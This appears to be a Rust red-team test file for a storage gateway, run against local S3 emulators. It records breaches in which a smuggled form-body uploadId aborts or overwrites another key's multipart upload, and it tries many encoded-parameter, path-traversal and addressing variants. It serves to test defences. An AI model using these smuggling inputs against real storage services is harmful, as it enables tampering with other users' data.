@@ -1,0 +1,330 @@
+//! Red team r6: a hostile client against the gateway's S3 upload-id
+//! binding (without custody), the strict copy-source grammar and the Azure
+//! operation table. Every attack is checked at the store (moto, Azurite),
+//! not by the status code alone.
+//!
+//! Tests marked `#[ignore]` demonstrate a breach: they fail on the code as
+//! it is, and say what the store did.
+
+#[path = "../support/mod.rs"]
+mod support;
+
+use support::moto::{moto, S3_AUTH};
+use support::{build_request, http, GatewayProcess, Resp};
+
+fn element(text: &str, name: &str) -> Option<String> {
+    let (_, rest) = text.split_once(&format!("<{name}>"))?;
+    let (inside, _) = rest.split_once(&format!("</{name}>"))?;
+    Some(inside.to_owned())
+}
+
+/// An S3 bucket at moto, made directly.
+fn bucket(name: &str) {
+    let made = http(moto().addr, "PUT", &format!("/{name}"), &[S3_AUTH], b"");
+    assert_eq!(made.status, 200, "CreateBucket at moto: {}", made.text());
+}
+
+fn send(gw: &GatewayProcess, method: &str, target: &str, token: u64, body: &[u8]) -> Resp {
+    let token = token.to_string();
+    gw.req(
+        method,
+        target,
+        &[S3_AUTH, ("X-Fencing-Token", &token)],
+        body,
+    )
+}
+
+fn create(gw: &GatewayProcess, object: &str, token: u64) -> String {
+    let created = send(gw, "POST", &format!("{object}?uploads"), token, b"");
+    assert_eq!(created.status, 200, "create on {object}: {}", created.text());
+    element(&created.text(), "UploadId").expect("an UploadId")
+}
+
+/// The parts of `bucket`'s upload `id` of `key`, asked of moto directly:
+/// (part number, size) each; `None` if moto knows no such upload.
+fn parts_at_moto(bucket: &str, key: &str, id: &str) -> Option<Vec<(u32, u64)>> {
+    let resp = http(
+        moto().addr,
+        "GET",
+        &format!("/{bucket}/{key}?uploadId={id}"),
+        &[S3_AUTH],
+        b"",
+    );
+    if resp.status != 200 {
+        return None;
+    }
+    let text = resp.text();
+    let mut parts = Vec::new();
+    for part in text.split("<Part>").skip(1) {
+        let number = element(part, "PartNumber").unwrap().parse().unwrap();
+        let size = element(part, "Size").unwrap().parse().unwrap();
+        parts.push((number, size));
+    }
+    Some(parts)
+}
+
+fn uploads_at_moto(bucket: &str) -> String {
+    http(
+        moto().addr,
+        "GET",
+        &format!("/{bucket}?uploads"),
+        &[S3_AUTH],
+        b"",
+    )
+    .text()
+}
+
+fn stored(bucket: &str, key: &str) -> Option<Vec<u8>> {
+    let resp = http(
+        moto().addr,
+        "GET",
+        &format!("/{bucket}/{key}"),
+        &[S3_AUTH],
+        b"",
+    );
+    (resp.status == 200).then_some(resp.body)
+}
+
+const BOUNDARY: &str = "rt6boundary";
+
+/// A `multipart/form-data` body of `fields` (name, value) and, if given, a
+/// file field `file` holding `file`.
+fn form_body(fields: &[(&str, &str)], file: Option<&[u8]>) -> Vec<u8> {
+    let mut body = Vec::new();
+    for (name, value) in fields {
+        body.extend_from_slice(
+            format!(
+                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
+            )
+            .as_bytes(),
+        );
+    }
+    if let Some(file) = file {
+        body.extend_from_slice(
+            format!(
+                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"p\"\r\nContent-Type: application/octet-stream\r\n\r\n"
+            )
+            .as_bytes(),
+        );
+        body.extend_from_slice(file);
+        body.extend_from_slice(b"\r\n");
+    }
+    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
+    body
+}
+
+/// Sends `method target` with a `multipart/form-data` body through `gw`
+/// at `token`; prints the exact bytes sent.
+fn send_form(
+    gw: &GatewayProcess,
+    method: &str,
+    target: &str,
+    token: u64,
+    body: &[u8],
+) -> Resp {
+    let token = token.to_string();
+    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");
+    let headers = [
+        S3_AUTH,
+        ("X-Fencing-Token", token.as_str()),
+        ("Content-Type", content_type.as_str()),
+    ];
+    let raw = build_request(gw.data_addr(), method, target, &headers, body);
+    eprintln!(
+        "---- request bytes ----\n{}\n---- end ----",
+        String::from_utf8_lossy(&raw)
+    );
+    gw.req(method, target, &headers, body)
+}
+
+/// Attack 1a: an abort through J's path (J's own bound id in the query,
+/// so the gateway's binding check passes), with a `multipart/form-data`
+/// body whose `uploadId` field names K's upload. moto's
+/// `abort_multipart_upload` reads `uploadId` with `_get_param`, which
+/// reads the form (when a form is present) instead of the query.
+///
+/// BREACH (seen on this run): the gateway answered 204 and moto aborted
+/// K's upload (gone from `?uploads`), while J's upload was left alone at
+/// the store (and unbound at the gateway).
+#[test]
+#[ignore = "breach: a multipart/form-data uploadId field aborts another key's upload through J's path"]
+fn form_body_upload_id_aborts_another_keys_upload() {
+    let b = "rt6-form-abort";
+    bucket(b);
+    let gw = GatewayProcess::start(&["--upstream", &moto().url(), "--store", "s3"]);
+    let k = format!("/{b}/ledger-k");
+    let j = format!("/{b}/ledger-j");
+    // K's upload belongs to the holder at 7; the attacker holds J at 5.
+    let x = create(&gw, &k, 7);
+    let sent = send(&gw, "PUT", &format!("{k}?partNumber=1&uploadId={x}"), 7, b"k's part");
+    assert_eq!(sent.status, 200, "{}", sent.text());
+    let y = create(&gw, &j, 5);
+    // Direct refusal holds: K's id through J's path.
+    let direct = send(&gw, "DELETE", &format!("{j}?uploadId={x}"), 5, b"");
+    assert_eq!(direct.status, 404, "{}", direct.text());
+    assert!(uploads_at_moto(b).contains(&x));
+    // Through the form body.
+    let body = form_body(&[("uploadId", &x)], None);
+    let resp = send_form(&gw, "DELETE", &format!("{j}?uploadId={y}"), 5, &body);
+    eprintln!("gateway answered {}: {}", resp.status, resp.text());
+    let listing = uploads_at_moto(b);
+    assert!(
+        listing.contains(&x),
+        "BREACH: K's upload {x} was aborted at moto through J's path (gateway answered {}); moto's uploads: {listing}",
+        resp.status
+    );
+}
+
+/// Attack 1b: a part written into K's upload through J's path: `PUT
+/// J?partNumber=1&uploadId=<J's id>` with a `multipart/form-data` body
+/// whose fields are `uploadId=<K's id>`, `partNumber=1` and a `file`.
+/// moto's `upload_part` reads `uploadId` and `partNumber` from the form
+/// and the part's bytes from the file. The rightful holder of K (token 7)
+/// then resumes its upload as resuming clients do (ListParts, then
+/// complete with what is listed).
+///
+/// BREACH (seen on this run): the gateway answered 200, moto stored the
+/// attacker's bytes as part 1 of K's upload, and K then held the bytes of
+/// a holder whose token (5) is below K's fence (7).
+#[test]
+#[ignore = "breach: a multipart/form-data uploadId field writes a part into another key's upload through J's path"]
+fn form_body_upload_id_writes_a_part_into_another_keys_upload() {
+    let b = "rt6-form-part";
+    bucket(b);
+    let gw = GatewayProcess::start(&["--upstream", &moto().url(), "--store", "s3"]);
+    let k = format!("/{b}/ledger-k");
+    let j = format!("/{b}/ledger-j");
+    // K's fence at 7: the attacker's 5 is stale for K, fresh for J.
+    let fresh = send(&gw, "PUT", &k, 7, b"fresh at 7");
+    assert_eq!(fresh.status, 200, "{}", fresh.text());
+    let stale = send(&gw, "PUT", &k, 5, b"stale at 5");
+    assert_eq!(stale.status, 409, "{}", stale.text());
+    let x = create(&gw, &k, 7);
+    let sent = send(&gw, "PUT", &format!("{k}?partNumber=1&uploadId={x}"), 7, b"holder's part at 7");
+    assert_eq!(sent.status, 200, "{}", sent.text());
+    let y = create(&gw, &j, 5);
+    let before = parts_at_moto(b, "ledger-k", &x).expect("K's upload");
+    assert_eq!(before, vec![(1, 18)]);
+    let injected = b"ATTACKER BYTES WRITTEN WITH TOKEN 5";
+    let body = form_body(&[("uploadId", &x), ("partNumber", "1")], Some(injected));
+    let resp = send_form(&gw, "PUT", &format!("{j}?partNumber=1&uploadId={y}"), 5, &body);
+    eprintln!("gateway answered {}: {}", resp.status, resp.text());
+    let after = parts_at_moto(b, "ledger-k", &x).expect("K's upload");
+    // The holder resumes: ListParts through the gateway, then complete.
+    let listed = send(&gw, "GET", &format!("{k}?uploadId={x}"), 7, b"");
+    let etag = element(&listed.text(), "ETag").unwrap_or_default();
+    let complete = format!(
+        "<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>{etag}</ETag></Part></CompleteMultipartUpload>"
+    );
+    let done = send(&gw, "POST", &format!("{k}?uploadId={x}"), 7, complete.as_bytes());
+    eprintln!("completion by K's holder: {} {}", done.status, done.text());
+    let k_now = stored(b, "ledger-k");
+    assert_eq!(
+        after,
+        before,
+        "BREACH: K's upload {x} at moto has parts {after:?} after a request through J's path (gateway answered {}); K now holds {:?}",
+        resp.status,
+        k_now.as_deref().map(String::from_utf8_lossy)
+    );
+}
+
+/// Attack 1c (holds): the binding, spelled otherwise. K's upload `x`
+/// through J's path with the parameter or the path spelled oddly, a
+/// presigned-looking query, virtual-hosted addressing, an id begun at
+/// moto directly, and after a restart on disk state. Each must be refused
+/// (or, where the store would read no upload at all, write only J, which
+/// the token passes); K's upload at moto must keep exactly its one part,
+/// and K its content.
+#[test]
+fn upload_id_spellings_and_addressings_never_reach_another_keys_upload() {
+    let b = "rt6-spellings";
+    bucket(b);
+    let mut gw = GatewayProcess::start(&[
+        "--upstream",
+        &moto().url(),
+        "--store",
+        "s3",
+        "--s3-domain",
+        "localhost",
+    ]);
+    let k = format!("/{b}/ledger-k");
+    let fresh = send(&gw, "PUT", &k, 7, b"fresh at 7");
+    assert_eq!(fresh.status, 200, "{}", fresh.text());
+    let x = create(&gw, &k, 7);
+    let sent = send(&gw, "PUT", &format!("{k}?partNumber=1&uploadId={x}"), 7, b"holder's part");
+    assert_eq!(sent.status, 200, "{}", sent.text());
+    let port = gw.data_addr().port();
+    let vhost = format!("{b}.localhost:{port}");
+    let mut outcomes = Vec::new();
+    let mut check = |gw: &GatewayProcess, what: &str, method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]| {
+        let mut all = vec![S3_AUTH, ("X-Fencing-Token", "5")];
+        all.extend_from_slice(headers);
+        let resp = gw.req(method, target, &all, body);
+        let parts = parts_at_moto(b, "ledger-k", &x);
+        let code = element(&resp.text(), "Code").unwrap_or_default();
+        outcomes.push(format!("{what}: {} {code}", resp.status));
+        assert_eq!(
+            parts,
+            Some(vec![(1, 13)]),
+            "{what}: K's upload changed at moto: {parts:?} (gateway {} {})",
+            resp.status,
+            resp.text()
+        );
+        assert_eq!(stored(b, "ledger-k").as_deref(), Some(&b"fresh at 7"[..]), "{what}: K changed");
+        resp
+    };
+    let part = |target: &str| format!("{target}");
+    let j = format!("/{b}/ledger-j");
+    for (what, target) in [
+        ("plain", format!("{j}?partNumber=1&uploadId={x}")),
+        ("%75ploadId", format!("{j}?partNumber=1&%75ploadId={x}")),
+        ("upload%49d", format!("{j}?partNumber=1&upload%49d={x}")),
+        ("uploadid lowercase", format!("{j}?partNumber=1&uploadid={x}")),
+        ("UploadId", format!("{j}?partNumber=1&UploadId={x}")),
+        ("uploadId twice (J's bogus, K's)", format!("{j}?partNumber=1&uploadId=bogus&uploadId={x}")),
+        ("uploadId and %75ploadId", format!("{j}?partNumber=1&uploadId=bogus&%75ploadId={x}")),
+        ("uploadId+ name", format!("{j}?partNumber=1&uploadId+={x}")),
+        ("uploadId;", format!("{j}?partNumber=1;uploadId={x}")),
+        ("id value percent-encoded", format!("{j}?partNumber=1&uploadId={}", support::pct(&x))),
+        ("K spelled %6B (J-less)", format!("/{b}/ledger-%6B?partNumber=1&uploadId={x}")),
+        ("K with trailing slash", format!("{k}/?partNumber=1&uploadId={x}")),
+        ("K via dot segment", format!("/{b}/ledger-j/../ledger-k?partNumber=1&uploadId={x}")),
+        ("K via dot segment encoded", format!("/{b}/ledger-j/%2E%2E/ledger-k?partNumber=1&uploadId={x}")),
+        ("K via double slash", format!("/{b}//ledger-k?partNumber=1&uploadId={x}")),
+        ("K via %2F", format!("/{b}/x%2F..%2Fledger-k?partNumber=1&uploadId={x}")),
+        ("presigned", format!("{j}?partNumber=1&uploadId={x}&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=test%2F20261125%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20261125T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=00")),
+    ] {
+        let _ = check(&gw, what, "PUT", &part(&target), &[], b"injected");
+    }
+    // Virtual-hosted: J's key under the bucket's host.
+    let _ = check(
+        &gw,
+        "virtual-hosted J",
+        "PUT",
+        &format!("/ledger-j?partNumber=1&uploadId={x}"),
+        &[("Host", vhost.as_str())],
+        b"injected",
+    );
+    // Completion and abort through J, by every spelling above's base.
+    let complete = b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>x</ETag></Part></CompleteMultipartUpload>";
+    let _ = check(&gw, "complete through J", "POST", &format!("{j}?uploadId={x}"), &[], complete);
+    let _ = check(&gw, "complete through J, virtual-hosted", "POST", &format!("/ledger-j?uploadId={x}"), &[("Host", vhost.as_str())], complete);
+    let _ = check(&gw, "complete with uploads too", "POST", &format!("{j}?uploads&uploadId={x}"), &[], b"");
+    let _ = check(&gw, "part copy through J", "PUT", &format!("{j}?partNumber=1&uploadId={x}"), &[("x-amz-copy-source", &k[1..])], b"");
+    // A urlencoded form is refused 501 (any case of its type).
+    let form = format!("uploadId={x}");
+    let _ = check(&gw, "urlencoded form", "DELETE", &format!("{j}?uploadId=bogus"), &[("Content-Type", "Application/X-WWW-Form-Urlencoded")], form.as_bytes());
+    // Begun at moto directly: refused through its own path too.
+    let direct = http(moto().addr, "POST", &format!("{j}?uploads"), &[S3_AUTH], b"");
+    let direct_id = element(&direct.text(), "UploadId").expect("moto's id");
+    let resp = check(&gw, "id begun at moto", "PUT", &format!("{j}?partNumber=1&uploadId={direct_id}"), &[], b"unseen");
+    assert_eq!(resp.status, 404, "{}", resp.text());
+    assert_eq!(parts_at_moto(b, "ledger-j", &direct_id), Some(vec![]));
+    // After a restart on disk state the binding holds.
+    gw.restart();
+    let resp = check(&gw, "after restart, through J", "PUT", &format!("{j}?partNumber=1&uploadId={x}"), &[], b"after");
+    assert_eq!(resp.status, 404, "{}", resp.text());
+    let own = send(&gw, "PUT", &format!("{k}?partNumber=2&uploadId={x}"), 7, b"own after restart");
+    assert_eq!(own.status, 200, "{}", own.text());
+    eprintln!("outcomes:\n{}", outcomes.join("\n"));
+}
